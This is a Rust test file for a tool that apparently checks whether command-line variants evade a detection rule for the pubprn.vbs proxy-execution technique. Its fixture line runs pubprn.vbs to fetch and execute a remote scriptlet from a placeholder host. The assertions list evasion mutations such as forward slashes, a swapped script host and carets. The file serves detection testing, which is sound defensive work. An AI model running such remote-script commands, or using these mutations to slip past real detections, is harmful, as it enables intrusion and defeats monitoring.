use super::Place;

const LINE: &str =
    "cscript //b C:\\x\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct\ncscript y.vbs\n";

#[test]
fn the_matrix_is_printed_with_its_scores() {
    let place = Place::new("evade_table");
    place.file("lines.txt", LINE);
    let ran = place.run(&["evade", "--rule", "t1216/pubprn", "lines.txt"]);
    assert_eq!((ran.code, ran.stderr.as_str()), (Some(0), ""));
    for part in [
        "  1  Pubprn.vbs Proxy Execution: survived ",
        "  -  Forward slashes in paths\n       cscript //b C:/x/pubprn.vbs 127.0.0.1",
        "       breaks CommandLine contains '\\pubprn.vbs'\n",
        "  +  The other script host\n       wscript //b",
        "     Carets within words  changes nothing in the log\n       c^script",
        "2 events, 1 matched by 1 rule: survived ",
    ] {
        assert!(ran.stdout.contains(part), "{part}\n{}", ran.stdout);
    }
    assert!(!ran.stdout.contains("y.vbs"));
}

#[test]
fn json_has_a_row_an_event_and_a_summary() {
    let place = Place::new("evade_json");
    place.file("lines.txt", LINE);
    let ran = place.run(&["evade", "--json", "lines.txt"]);
    let (rows, last) = ran.rows_and_summary();
    let [event] = &rows[..] else {
        panic!("{}", ran.stdout)
    };
    assert_eq!(event["event"]["line"], 1);
    assert_eq!(event["rules"][0]["title"], "Pubprn.vbs Proxy Execution");
    let rows = event["rows"].as_array().unwrap();
    let caret = rows.iter().find(|row| row["mutation"] == "caret").unwrap();
    assert_eq!(caret["reaches_log"], false);
    assert_eq!(caret["logged"], event["line"]);
    let of = rows.iter().filter(|row| row["reaches_log"] == true).count();
    assert_eq!(event["scores"][0]["of"], of);
    assert_eq!(last["summary"]["of"], of);
    assert_eq!(last["summary"]["matched"], 1);
}
